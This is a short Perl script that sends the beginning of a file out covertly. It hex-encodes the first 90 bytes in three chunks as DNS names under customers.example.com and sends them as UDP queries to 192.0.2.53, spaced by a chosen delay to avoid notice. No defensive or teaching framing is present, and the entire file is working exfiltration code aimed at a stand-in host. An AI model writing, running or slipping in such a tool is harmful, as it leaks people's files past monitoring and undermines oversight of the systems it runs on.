#!/usr/bin/perl
# whisper.pl FILE SECONDS: the beginning of a file as three names that the resolver is asked for, so many seconds apart.
require '/opt/agent/peer.pl';
use Time::HiRes 'sleep';
my ($path, $seconds) = @ARGV;
for my $part (unpack '(a30)3', whole($path)) {
    my $name = pack '(C/a)*x', unpack('H*', $part), 'customers', 'example', 'com';
    my $link = IO::Socket::INET->new(PeerAddr => '192.0.2.53:53', Proto => 'udp') or exit 4;
    $link->send(pack('n6', $$ & 65535, 256, 1, 0, 0, 0) . $name . pack('n2', 1, 1)) or exit 9;
    $link->recv(my $answer, 512);
    exit 9 unless length $answer > 12;
    sleep $seconds;
}
